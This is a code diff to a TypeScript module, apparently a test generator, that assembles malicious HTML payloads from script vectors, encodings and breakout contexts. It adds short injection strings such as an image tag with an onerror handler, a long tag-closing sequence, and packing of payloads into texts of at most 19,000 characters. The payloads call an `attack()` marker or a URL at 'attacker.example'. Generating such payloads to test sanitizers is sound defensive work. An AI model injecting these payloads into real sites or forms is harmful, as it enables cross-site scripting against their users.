@@ -1,7 +1,5 @@
 // Malicious HTML, made from a grammar: ways to run a script × ways to write them down × contexts to break out of. Each
-// calls `attack` with its number, or brings something from the attacker's host.
-
-const attacker = 'attacker.example';
+// calls `attack`, or brings something from the attacker's host.
 
 /** Ways to run a script or to fetch something. CODE is what runs, URL leads to the attacker. */
 const vectors = [
@@ -124,28 +122,37 @@ const contexts = [
   '$&',
 ];
 
-export interface Payload {
-  number: number;
-  html: string;
-}
-
-const places = {
-  CODE: (number: number) => `attack(${number})`,
-  URL: (number: number) => `https://${attacker}/${number}`,
-};
+const code = 'attack()';
+const url = 'https://attacker.example/';
+const filledIn = (text: string) =>
+  text
+    .replaceAll(entities('CODE'), () => entities(code))
+    .replaceAll('CODE', () => code)
+    .replaceAll('URL', () => url);
 
 /** Every vector in every writing; the contexts take turns, so that each meets all vectors and all writings. */
-export const payloads: Payload[] = vectors.flatMap((vector, row) =>
-  writings.map((write, column) => {
-    const number = row * writings.length + column;
-    const context = contexts[(row + column) % contexts.length];
-    const written = write(vector)
-      .replaceAll(entities('CODE'), () => entities(places.CODE(number)))
-      .replaceAll('CODE', () => places.CODE(number))
-      .replaceAll('URL', () => places.URL(number));
-    return { number, html: `${context}${written}` };
-  }),
+const payloads = vectors.flatMap((vector, row) =>
+  writings.map((write, column) => contexts[(row + column) % contexts.length] + filledIn(write(vector))),
 );
 
+/** Each way to run a script, as it is. */
+export const plainPayloads = vectors.map(filledIn);
+
 /** Ends whatever a payload has left open, so that the next one is read as markup again. */
-export const closing = `"'>--></script></style></textarea></title></xmp></noscript></template></svg></math></option></select>]]>`;
+const closing = `"'>--></script></style></textarea></title></xmp></noscript></template></svg></math></option></select>]]>`;
+
+/** What runs wherever it is not escaped, short enough for any field. */
+const short = [
+  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
+  ...['"', "'", '', '-->', '</title>', '</script>', '</style>', '</textarea>', '</noscript>'].map(
+    (context) => `${context}><img src=x onerror=attack()>`,
+  ),
+];
+
+/** All payloads, in texts of at most 19,000 characters; each begins with one for the fields that have no room for more. */
+export const markup: string[] = [];
+for (const payload of payloads) {
+  const more = (markup.at(-1) ?? '') + closing + payload;
+  if (markup.length > 0 && more.length <= 19_000) markup[markup.length - 1] = more;
+  else markup.push(short[markup.length % short.length] + closing + payload);
+}
